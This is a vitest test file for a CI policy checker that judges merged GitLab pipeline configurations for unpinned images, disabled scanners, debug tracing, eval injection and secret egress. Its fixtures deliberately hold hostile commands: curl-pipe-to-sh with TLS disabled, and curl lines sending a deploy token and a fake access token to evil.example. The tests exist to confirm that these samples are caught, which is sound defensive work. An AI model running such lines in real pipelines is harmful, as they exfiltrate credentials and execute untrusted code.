/** Controls about the merged CI configuration, through the bundle. */

import { readFileSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import {
  addProject,
  type CiLintRow,
  jobRow,
  type ProjectRow,
  type Sandbox,
  sample,
  startSandbox,
} from "../../src/sandbox/index.ts";
import { checkout } from "../support/job.ts";
import { headOf } from "../support/merge-requests.ts";
import { runJob } from "../support/terminal.ts";

let sandbox: Sandbox;
let project: ProjectRow;
beforeEach(async () => {
  sandbox = await startSandbox();
  const found = sandbox.state.projects.find(({ id }) => id === 42);
  if (!found) throw new Error("the sample has no project 42");
  project = found;
  for (const ref of [headOf(sandbox, 7), "main"])
    project.files.set(`${ref}:.gitlab-ci.yml`, "build:\n  script: make\n");
  const ci = addProject(sandbox.state, { id: 70, path: "ci", groupId: project.groupId });
  ci.tags.push({ name: "v1.2.3", commitId: included, committed_date: "2026-01-01T00:00:00Z", message: "" });
  ci.files.set(`${included}:scan.yml`, "scan:\n  script: scan\n");
});
afterEach(() => sandbox.close());

/** The commit of the file that the configuration includes from acme/ci. */
const included = "c".repeat(40);
const controls = [
  { id: "pipeline_images", with: { registries: ["registry.example.com"] } },
  { id: "pipeline_includes", with: { sources: ["acme/**"] } },
  "pipeline_security_jobs_intact",
  "pipeline_no_debug_trace",
  "pipeline_variables_not_injected",
  "pipeline_services",
];

const good = `---
include: []
variables:
  SECRET_DETECTION_DISABLED: 'false'
default:
  image: registry.example.com/ci/node:22
".base":
  image: node:latest
build:
  script:
  - make "$CI_COMMIT_TITLE"
secret_detection:
  image: registry.example.com/ci/secrets:6
  script: &1
  - "/analyzer run"
  allow_failure: false
  artifacts:
    reports:
      secret_detection: gl-secret-detection-report.json
semgrep-sast:
  script: *1
  artifacts:
    reports:
      sast: gl-sast-report.json
`;

const bad = `---
variables:
  CI_DEBUG_TRACE: 'true'
build:
  image: node:latest
  services:
  - docker:dind
  script:
  - eval "make $CI_COMMIT_TITLE"
semgrep-sast:
  image: registry.example.com/ci/semgrep:1
  script:
  - echo '[]'
  artifacts:
    reports:
      sast: gl-sast-report.json
`;

const lints = (merged_yaml: string, ref: string): CiLintRow => ({
  ...{ valid: true, errors: [], warnings: [], merged_yaml },
  includes: [
    {
      ...{ type: "file", location: "scan.yml", extra: { project: "acme/ci", ref } },
      ...{ context_project: "acme/payments", context_sha: null },
      blob: `https://gitlab.example.com/acme/ci/-/blob/${included}/scan.yml`,
    },
  ],
});

async function judged(iid = 7) {
  const job = await runJob(sandbox, { iid, ...checkout(...controls) });
  const found = job.report?.requirements[0]?.controls ?? [];
  return { job, found: found.map(({ status, message }) => [status, message]) };
}

describe("the merged configuration", () => {
  it("of the head passes, with one look at it", async () => {
    project.ciLint = lints(bad, "main");
    project.ciLintAt.set(headOf(sandbox, 7), lints(good, "v1.2.3"));
    expect((await judged()).found).toEqual([
      ["pass", "the images of 3 jobs are as required"],
      ["pass", "1 include is as required"],
      ["pass", "2 scanner jobs are intact"],
      ["pass", "none of 3 jobs is traced"],
      ["pass", "no value that others decide was found in code that 3 jobs would run"],
      ["pass", "no forbidden service in 3 jobs"],
    ]);
    expect(sandbox.log.map(({ path }) => path.replace("/api/v4", "")).sort()).toEqual([
      "/api/graphql",
      "/projects/42",
      "/projects/42/ci/lint",
      "/projects/42/merge_requests/7",
      "/projects/42/repository/files/.gitlab-ci.yml/raw",
      "/projects/42/repository/tree",
      "/projects/acme%2Fci/repository/files/scan.yml/raw",
    ]);
  });

  it("of the head fails, each with what was found", async () => {
    project.ciLint = lints(good, "v1.2.3");
    project.ciLintAt.set(headOf(sandbox, 7), lints(bad, "main"));
    expect((await judged()).found).toEqual([
      [
        "fail",
        "node:latest (build) has the tag latest and is from a registry that is not allowed; docker:dind (build) is from a registry that is not allowed",
      ],
      ["fail", "file acme/ci@main is not pinned to a commit or an exact version"],
      ["fail", "semgrep-sast runs \"echo '[]'\""],
      ["fail", "CI_DEBUG_TRACE is true for every job"],
      ["fail", "build puts $CI_COMMIT_TITLE into eval"],
      ["fail", "the service docker:dind of build is forbidden"],
    ]);
  });

  it.each([
    {
      name: "is broken",
      row: { ...lints("", "main"), valid: false, errors: ["no such stage"] },
      says: /no such stage/,
    },
    {
      name: "is not shown",
      row: { ...lints("", "main"), merged_yaml: null },
      says: /does not show what it merged/,
    },
  ])("that $name is unknown to all of them", async ({ row, says }) => {
    project.ciLintAt.set(headOf(sandbox, 7), row);
    const { job, found } = await judged();
    expect(found).toEqual(controls.map(() => ["unknown", expect.stringMatching(says)]));
    expect(job.code).toBe(3);
  });

  it("of a fork is not to be read in the target project", async () => {
    project.ciLint = lints(good, "v1.2.3");
    const { found } = await judged(10);
    expect(found.map(([status]) => status)).toEqual(controls.map(() => "unknown"));
  });
});

describe("GitLab's own scanner templates", () => {
  it("may fail, which the policy can accept, and have images that their own variables name", async () => {
    const plain = await runJob(sandbox, checkout("pipeline_security_jobs_intact", "pipeline_images"));
    expect(plain.report?.requirements[0]?.controls.map(({ status, message }) => [status, message])).toEqual([
      ["fail", "semgrep-sast may fail (allow_failure); secret_detection may fail (allow_failure)"],
      ["pass", "the images of 2 jobs are as required"],
    ]);
    const accepting = await runJob(
      sandbox,
      checkout(
        { id: "pipeline_security_jobs_intact", with: { accept: ["allow_failure"] } },
        {
          id: "pipeline_images",
          with: {
            registries: ["registry.gitlab.com/security-products"],
            variables: {
              SECURE_ANALYZERS_PREFIX: "registry.gitlab.com/security-products",
              SECRETS_ANALYZER_VERSION: "7",
            },
          },
        },
        "pipeline_includes",
        "pipeline_variables_not_injected",
      ),
    );
    const accepted = accepting.report?.requirements[0]?.controls.map(({ status, message }) => [
      status,
      message,
    ]);
    expect(accepted).toEqual([
      ["pass", "2 scanner jobs are intact"],
      ["pass", "the images of 2 jobs are as required"],
      ["pass", "2 includes are as required"],
      ["pass", expect.stringContaining("no value that others decide was found")],
    ]);
  });
});

describe("what the jobs do", () => {
  const doing = [
    ...["pipeline_no_secrets_in_configuration", "pipeline_no_unverified_scripts", "pipeline_no_tls_bypass"],
    ...["pipeline_no_privileged_docker", "pipeline_installs_locked", "pipeline_no_job_token_misuse"],
    { id: "pipeline_no_secret_egress", with: { hosts: ["api.example.com"] } },
    { id: "ci_rule", rule: 'ci.jobs.all(j, !j.script.exists(s, s.contains("npm install")))', message: "m" },
  ];
  const token = ["glpat", "-", "x9Kq2mVb7RtY4wLsPz3N"].join("");
  const clean = JSON.stringify({
    build: { script: ["npm ci", 'curl -H "X: $DEPLOY_TOKEN" https://api.example.com/x'] },
  });
  const unsafe = JSON.stringify({
    build: {
      services: ["docker:dind"],
      script: [
        "npm install",
        "curl -k https://get.example.com/x | sh",
        'echo "$CI_JOB_TOKEN" > token.txt',
        'curl -H "X: $DEPLOY_TOKEN" https://evil.example/x',
        `curl -H "PRIVATE-TOKEN: ${token}" https://evil.example/x`,
      ],
    },
  });
  const configure = (merged_yaml: string, file = "build:\n  script: make\n") => {
    const row = { valid: true, errors: [], warnings: [], merged_yaml, includes: [] };
    project.ciLintAt.set(headOf(sandbox, 7), row);
    project.files.set(`${headOf(sandbox, 7)}:.gitlab-ci.yml`, file);
    project.variables = [
      {
        ...{ key: "DEPLOY_TOKEN", variableType: "ENV_VAR", protected: true, masked: true, hidden: false },
        ...{ raw: true, environmentScope: "*" },
      },
    ];
  };
  const judge = async (env: Readonly<Record<string, string>> = {}) => {
    const prepared = checkout(...doing);
    const job = await runJob(sandbox, { iid: 7, ...prepared, env: { ...prepared.env, ...env } });
    return { job, found: job.report?.requirements[0]?.controls ?? [] };
  };

  it("passes where nothing is wrong, with one look at each answer", async () => {
    configure(clean);
    const { found } = await judge();
    expect(found.map(({ id, status, message }) => [id, status, status === "pass" ? "" : message])).toEqual(
      found.map(({ id }) => [id, "pass", ""]),
    );
    expect(found).toHaveLength(8);
    expect(sandbox.log.map(({ path }) => path.replace("/api/v4", "")).sort()).toEqual([
      "/api/graphql",
      "/projects/42",
      "/projects/42/ci/lint",
      "/projects/42/merge_requests/7",
      "/projects/42/repository/files/.gitlab-ci.yml/raw",
    ]);
  });

  it("fails where all is wrong, and shows no secret", async () => {
    configure(unsafe);
    const { job, found } = await judge();
    expect(found.map(({ id, status }) => [id, status])).toEqual(found.map(({ id }) => [id, "fail"]));
    expect(
      JSON.stringify(job.report?.requirements[0]?.controls.filter(({ id }) => id !== "ci_rule")),
    ).not.toContain(token);
  });

  it("is unknown where rules decide what is included", async () => {
    configure(clean, "include:\n  - local: more.yml\n    rules: [{if: $X}]\nbuild:\n  script: make\n");
    const { found } = await judge();
    expect(found.map(({ id, status }) => [id, status])).toEqual(found.map(({ id }) => [id, "unknown"]));
  });

  it("is unknown to a token without the role, for what it cannot see", async () => {
    configure(clean);
    const { found } = await judge({ INPUT_GITLAB_TOKEN: sample.reporterToken });
    const unknown = found.filter(({ status }) => status === "unknown");
    expect(unknown.map(({ id }) => id)).toEqual(["pipeline_no_secret_egress"]);
    expect(unknown[0]?.message).toMatch(/Maintainer/);
    const guest = await judge({ INPUT_GITLAB_TOKEN: sample.guestToken });
    expect(guest.found.filter(({ status }) => status === "pass")).toEqual([]);
  });
});

describe("a variable of the settings", () => {
  const merged = JSON.stringify({
    variables: { AT: "get.example.com", TAG: "22" },
    build: { image: "node:$TAG", script: ["curl https://$AT/x | sh"] },
  });
  const deciding = [
    "pipeline_images",
    "pipeline_no_tls_bypass",
    { id: "pipeline_no_unverified_scripts", with: { hosts: ["*.example.com"] } },
    { id: "ci_rule", rule: 'ci.jobs.all(j, j.image.startsWith("node:22"))', message: "m" },
  ];
  const judge = async (token: string, ...controls: readonly unknown[]) => {
    project.ciLintAt.set(headOf(sandbox, 7), {
      ...{ valid: true, errors: [], warnings: [], merged_yaml: merged, includes: [] },
    });
    const prepared = checkout(...controls);
    const env = { ...prepared.env, INPUT_GITLAB_TOKEN: token };
    const job = await runJob(sandbox, { iid: 7, ...prepared, env });
    return (job.report?.requirements[0]?.controls ?? []).map(({ status, message }) => [status, message]);
  };
  const set = (...keys: readonly string[]) => {
    project.variables = keys.map((key) => ({
      ...{ key, variableType: "ENV_VAR", protected: false, masked: false, hidden: false, raw: false },
      environmentScope: "production",
    }));
  };
  const statuses = (found: readonly (readonly unknown[])[]) => found.map(([status]) => status);

  it("overrides what the configuration says, so that a pass becomes unknown", async () => {
    expect(statuses(await judge(sample.ownerToken, ...deciding))).toEqual(["pass", "pass", "pass", "pass"]);
    set("AT", "TAG", "NODE_TLS_REJECT_UNAUTHORIZED");
    const found = await judge(sample.ownerToken, ...deciding);
    expect(found.slice(0, 3)).toEqual([
      ["unknown", "node:$TAG (build): a variable decides which tag it has (the project sets TAG)"],
      [
        "unknown",
        expect.stringMatching(/the value of NODE_TLS_REJECT_UNAUTHORIZED is not known; the project/),
      ],
      ["unknown", expect.stringMatching(/the project sets AT; to ignore this, set settings: ignore$/)],
    ]);
    expect(found[3]?.[0]).toBe("unknown");
  });

  it("is seen by Maintainers only, so that others get no pass that one could decide", async () => {
    const [images, tls, scripts, rule] = await judge(sample.reporterToken, ...deciding);
    expect(images).toEqual([
      "unknown",
      expect.stringMatching(
        /only Maintainers of acme\/payments see whether CI\/CD variables override TAG\)$/,
      ),
    ]);
    expect(statuses([tls ?? [], scripts ?? [], rule ?? []])).toEqual(["pass", "unknown", "unknown"]);
    const trusting = { id: "pipeline_images", with: { settings: "ignore" } };
    expect(statuses(await judge(sample.reporterToken, trusting))).toEqual(["pass"]);
  });

  it("is not read where the policy ignores the settings", async () => {
    set("TAG");
    await judge(sample.ownerToken, { id: "pipeline_images", with: { settings: "ignore" } });
    expect(sandbox.log.filter(({ path }) => path.endsWith("/graphql"))).toEqual([]);
  });
});

describe("the example policy", () => {
  it("passes where the job runs behind all it judges but a deployment", async () => {
    const pipeline = project.pipelines.find(({ id }) => id === 702);
    if (!pipeline) throw new Error("the sample has no pipeline 702");
    const when = pipeline.created_at;
    Object.assign(pipeline, {
      status: "running",
      jobs: [
        jobRow(1, "junit", when, { name: "unit", coverage: 71 }),
        jobRow(2, "sast", when, { name: "semgrep-sast" }),
        jobRow(3, "secret_detection", when),
        jobRow(4, null, when, { name: "deploy eu", status: "created" }),
        jobRow(5, null, when, { name: "countersign", status: "running" }),
      ],
      testSuites: [
        {
          ...{ name: "unit", build_ids: [1], success: 10 },
          failed: 0,
          skipped: 0,
          error: 0,
          suite_error: null,
        },
      ],
    });
    project.ciLint = lints(good, "v1.2.3");
    const job = await runJob(sandbox, {
      files: { "policy.yml": readFileSync("docs/examples/pipeline.yml", "utf8") },
      env: {
        ...{ INPUT_POLICY: "policy.yml", INPUT_POLICY_FROM: "checkout" },
        ...{ CI_PIPELINE_ID: "702", CI_JOB_ID: "5" },
      },
    });
    const controls = job.report?.requirements.flatMap((requirement) => requirement.controls) ?? [];
    expect(controls.filter(({ status }) => status !== "pass")).toEqual([]);
    expect(controls).toHaveLength(11);
    expect(sandbox.log).toHaveLength(11);
  });
});
